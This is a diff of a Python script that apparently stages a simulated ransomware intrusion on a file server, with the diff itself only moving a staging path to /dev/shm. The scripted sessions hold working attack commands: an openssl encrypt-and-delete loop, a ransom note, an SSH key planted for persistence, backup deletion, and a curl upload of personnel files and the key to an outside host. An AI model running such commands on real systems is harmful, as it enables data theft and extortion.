@@ -30,7 +30,7 @@ FILES = {
     "archive": ["annual-report-2021.pdf", "annual-report-2022.pdf", "annual-report-2023.pdf", "annual-report-2024.pdf", "annual-report-2025.pdf"],
 }
 LOCK = """for f in $(find "$1" -type f ! -name '*.locked' ! -name README-UNLOCK.txt); do
-  openssl enc -aes-256-cbc -pbkdf2 -in "$f" -out "$f.locked" -pass file:/tmp/.c/k && rm -f "$f"
+  openssl enc -aes-256-cbc -pbkdf2 -in "$f" -out "$f.locked" -pass file:/dev/shm/.c/k && rm -f "$f"
 done
 """
 NOTE = "Your files are locked and we have a copy of some. Write to the address you know within 72 hours. Do not call anybody.\n"
@@ -41,7 +41,7 @@ def main():
     subprocess.run(["hostname", "fs1"], check=True)
     # What fs1 sends by itself has its own address.
     subprocess.run(["ip", "route", "replace", "local", PROXY, "dev", "lo", "src", FS1, "table", "local"], check=True)
-    for place in ["/srv", "/home", "/tmp", "/run"]:
+    for place in ["/srv", "/home", "/dev/shm", "/run"]:
         subprocess.run(["mount", "-t", "tmpfs", "tmpfs", place], check=True)
     work = pathlib.Path(tempfile.mkdtemp(dir="/run"))
     os.chmod(work, 0o755)
@@ -234,14 +234,14 @@ class Story:
             self.ssh(user, VISITOR, "true", password=word)
         through = f"curl -s -x http://{PROXY}:3128"
         clock.until(42)
-        look = f"id; ls -la /srv/share; find /srv/share -name staff-list.xlsx; mkdir -p /tmp/.c ~/.ssh; echo '{public}' >> ~/.ssh/authorized_keys; tar -czf /tmp/.c/a -C /srv/share personnel; {through} -T /tmp/.c/a http://{STRANGER}/in/a; rm -f /tmp/.c/a; {through} -o /tmp/.c/s http://{STRANGER}/s"
+        look = f"id; ls -la /srv/share; find /srv/share -name staff-list.xlsx; mkdir -p /dev/shm/.c ~/.ssh; echo '{public}' >> ~/.ssh/authorized_keys; tar -czf /dev/shm/.c/a -C /srv/share personnel; {through} -T /dev/shm/.c/a http://{STRANGER}/in/a; rm -f /dev/shm/.c/a; {through} -o /dev/shm/.c/s http://{STRANGER}/s"
         self.ssh("svc-scan", VISITOR, look, password=PASSWORDS["svc-scan"])
         clock.until(66)
-        self.ssh("svc-scan", VISITOR, "openssl rand -hex -out /tmp/.c/k 32; bash /tmp/.c/s /srv/share/projects/2019", key=key)
+        self.ssh("svc-scan", VISITOR, "openssl rand -hex -out /dev/shm/.c/k 32; bash /dev/shm/.c/s /srv/share/projects/2019", key=key)
         clock.until(94)
-        lock = "rm -rf /srv/share/.daily; for d in finance personnel projects scans archive; do bash /tmp/.c/s /srv/share/$d; done; "
+        lock = "rm -rf /srv/share/.daily; for d in finance personnel projects scans archive; do bash /dev/shm/.c/s /srv/share/$d; done; "
         note = f"printf '{NOTE.strip()}' | tee /srv/share/README-UNLOCK.txt /srv/share/finance/README-UNLOCK.txt > /dev/null; "
-        self.ssh("svc-scan", VISITOR, f"{lock}{note}{through} -T /tmp/.c/k http://{STRANGER}/in/k; shred -u /tmp/.c/k", key=key)
+        self.ssh("svc-scan", VISITOR, f"{lock}{note}{through} -T /dev/shm/.c/k http://{STRANGER}/in/k; shred -u /dev/shm/.c/k", key=key)
 
 
 def changed(line):
